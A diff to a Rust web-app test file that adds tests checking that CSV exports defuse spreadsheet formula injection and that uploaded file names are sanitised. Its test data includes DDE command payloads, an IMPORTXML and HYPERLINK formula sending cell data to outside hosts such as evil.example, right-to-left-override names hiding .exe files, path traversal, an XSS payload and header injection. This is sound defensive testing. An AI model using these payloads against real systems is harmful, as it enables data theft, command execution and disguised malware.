@@ -673,6 +673,7 @@ fn upload_rows(w: &World) -> Vec<Row> {
         ("a PDF named .html", "receipt.html", PDF),
         ("a PDF with no name ending", "receipt", PDF),
         ("an empty file", "empty.pdf", b""),
+        ("a PDF whose name ends in a dot", "receipt.pdf.", PDF),
         (
             "JavaScript named .txt",
             "notes.js",
@@ -1198,4 +1199,141 @@ fn redirect_rows(w: &World) -> Vec<Row> {
 async fn redirects_go_only_to_paths_of_this_site() {
     let w = world().await;
     check(&w, redirect_rows(&w)).await;
+}
+
+/// What a spreadsheet would run as a formula.
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"open\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\n=2+2",
+    "  =IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+];
+
+#[tokio::test]
+async fn formulas_typed_into_a_case_never_reach_a_spreadsheet_as_formulas() {
+    let w = world().await;
+    for f in FORMULAS {
+        let mut steps = crate::cases::answers();
+        let name: &'static str = Box::leak(f.to_string().into_boxed_str());
+        steps[0].1[0] = ("trader_name", name);
+        steps[1].1[2] = ("purchase_description", name);
+        crate::cases::file_case_with(&w.app, &w.cast.consumer, steps).await;
+    }
+    let year = chrono::Utc::now().format("%Y");
+    for path in [
+        format!("/reports?kind=annual&from={year}-01-01&to={year}-12-31&format=csv"),
+        format!("/reports?kind=biennial&from={year}-01-01&to={year}-12-31&format=csv"),
+    ] {
+        let (status, _, body) = w.send(Who::Staff, &Req::Get(path.clone())).await;
+        assert_eq!(status, 200, "{path}");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(body.as_bytes());
+        let mut names = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let first = cell.chars().next();
+                // A number may be negative; any other text must not open as a formula.
+                if cell.parse::<f64>().is_err() {
+                    assert!(
+                        !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+                        "{path}: a cell opens as a formula: {cell:?}"
+                    );
+                }
+                if cell.contains("HYPERLINK") || cell.contains("cmd|") {
+                    names += 1;
+                }
+            }
+        }
+        assert!(
+            names >= 4,
+            "{path}: the traders' names are in the export ({names})"
+        );
+    }
+}
+
+/// Names meant to mislead (right-to-left overrides, invisible characters) or to escape the
+/// store (paths, reserved device names): the file is kept under a plain name.
+const ODD_NAMES: &[&str] = &[
+    "photo\u{202e}gnp.exe\u{202c}.pdf",
+    "invoice\u{2067}fdp.exe\u{2069}.pdf",
+    "re\u{200b}ceipt\u{200d}\u{2060}\u{feff}.pdf",
+    "\u{200e}\u{200f}\u{061c}receipt.pdf",
+    "../../../../etc/passwd.pdf",
+    "..\\..\\windows\\win.ini.pdf",
+    "/absolute/path.pdf",
+    "CON.pdf",
+    "\u{85}next line\u{2028}\u{2029}.pdf",
+    "<img src=x onerror=alert(1)>.pdf",
+    "\"; filename=evil.exe; x=\".pdf",
+];
+
+#[tokio::test]
+async fn file_names_that_hide_what_they_are_are_shown_plainly() {
+    let w = world().await;
+    let long = format!("{}.pdf", "é".repeat(400));
+    let mut rows = Vec::new();
+    for name in ODD_NAMES.iter().copied().chain([long.as_str()]) {
+        rows.push(row(
+            format!("upload named {name:?}"),
+            Who::Consumer,
+            Req::Upload(
+                format!("/cases/{}/documents", w.id),
+                vec![("audience".into(), "everyone".into())],
+                vec![(name.to_string(), PDF.to_vec())],
+            ),
+            303,
+            Says::Redirect(format!("/cases/{}?notice=documents-added#file", w.id)),
+            Stores::Something,
+        ));
+    }
+    check(&w, rows).await;
+    let id = w.id.clone();
+    let docs = w
+        .app
+        .db(move |c| db::case_file::documents(c, &id, &["everyone"]))
+        .await;
+    assert_eq!(
+        docs.len(),
+        ODD_NAMES.len() + 2,
+        "each upload kept once, with the first"
+    );
+    let page = w
+        .send(Who::Trader, &Req::Get(format!("/cases/{}", w.id)))
+        .await
+        .2;
+    for d in &docs {
+        let name = &d.file_name;
+        assert!(
+            !name.chars().any(|c| c.is_control()
+                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{061c}' | '\u{2028}' | '\u{2029}')),
+            "{name:?} keeps an invisible or control character"
+        );
+        assert!(
+            !name.contains('/') && !name.contains('\\'),
+            "{name:?} keeps a path"
+        );
+        assert!(!name.is_empty() && name.chars().count() <= 255, "{name:?}");
+        assert!(name.ends_with(".pdf"), "{name:?} keeps its ending");
+        // The download names the file safely, whatever it was called.
+        let res = w
+            .cast
+            .consumer
+            .get(&w.app, &format!("/cases/{}/documents/{}", w.id, d.id))
+            .await;
+        assert_eq!(res.status(), 200);
+        let disposition = res.headers()["content-disposition"]
+            .to_str()
+            .unwrap()
+            .to_string();
+        assert!(disposition.starts_with("attachment"), "{disposition}");
+        assert!(!disposition.contains("evil.exe;"), "{disposition}");
+    }
+    assert!(!page.contains('\u{202e}') && !page.contains('\u{2067}'));
+    assert!(!page.contains("<img src=x onerror"));
 }
